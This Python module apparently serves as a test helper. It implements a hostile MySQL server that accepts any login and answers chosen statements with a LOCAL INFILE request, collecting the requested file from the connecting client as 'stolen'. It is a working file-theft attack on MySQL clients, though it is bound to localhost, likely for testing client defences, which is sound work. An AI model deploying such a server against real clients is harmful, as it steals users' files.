"""A hostile MySQL server: accepts every login, and answers statements by requesting a file of the client."""

import socket
import struct
import threading
from contextlib import suppress
from dataclasses import dataclass, field

OK = b"\x00\x00\x00\x02\x00\x00\x00"
COM_QUIT = 1
# Protocol 4.1, secure connection, plugin authentication, LOCAL files, connect with a database (manual, Capabilities).
CAPABILITIES = 0x0008_0000 | 0x0000_8000 | 0x0000_2000 | 0x0000_0200 | 0x0000_0080 | 0x0000_0008


@dataclass
class RogueServer:
    """Asks for `wanted` in answer to every statement that begins with `attack`; keeps what it was sent in `stolen`."""

    wanted: str
    attack: bytes
    stolen: bytes = b""
    attacked: list[bytes] = field(default_factory=list)

    def __enter__(self) -> "RogueServer":
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._client = socket.socket()
        self.port = self._listener.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        for each in (self._listener, self._client):
            with suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join(timeout=10)

    def _serve(self) -> None:
        with suppress(OSError):
            while True:
                self._client = client = self._listener.accept()[0]
                with client, suppress(OSError, EOFError):
                    client.settimeout(10)
                    self._converse(client)

    def _converse(self, client: socket.socket) -> None:
        self._send(client, 0, self._greeting())
        sequence, _ = self._receive(client)
        self._send(client, sequence + 1, OK)
        while True:
            sequence, command = self._receive(client)
            if command[:1] == bytes([COM_QUIT]):
                return
            statement = command[1:].lstrip()
            if statement.upper().startswith(self.attack):
                self.attacked.append(statement)
                self._send(client, sequence + 1, b"\xfb" + self.wanted.encode())
                sequence, part = self._receive(client)
                while part:
                    self.stolen += part
                    sequence, part = self._receive(client)
            self._send(client, sequence + 1, OK)

    def _greeting(self) -> bytes:
        low, high = CAPABILITIES & 0xFFFF, CAPABILITIES >> 16
        return (
            b"\x0a8.0.36\0"
            + struct.pack("<I", 7)
            + b"A" * 8
            + b"\0"
            + struct.pack("<HBHHB", low, 45, 2, high, 21)
            + b"\0" * 10
            + b"B" * 12
            + b"\0"
            + b"mysql_native_password\0"
        )

    def _send(self, client: socket.socket, sequence: int, payload: bytes) -> None:
        client.sendall(len(payload).to_bytes(3, "little") + bytes([sequence % 256]) + payload)

    def _receive(self, client: socket.socket) -> tuple[int, bytes]:
        header = self._exactly(client, 4)
        return header[3], self._exactly(client, int.from_bytes(header[:3], "little"))

    def _exactly(self, client: socket.socket, size: int) -> bytes:
        found = b""
        while len(found) < size:
            part = client.recv(size - len(found))
            if not part:
                raise EOFError
            found += part
        return found
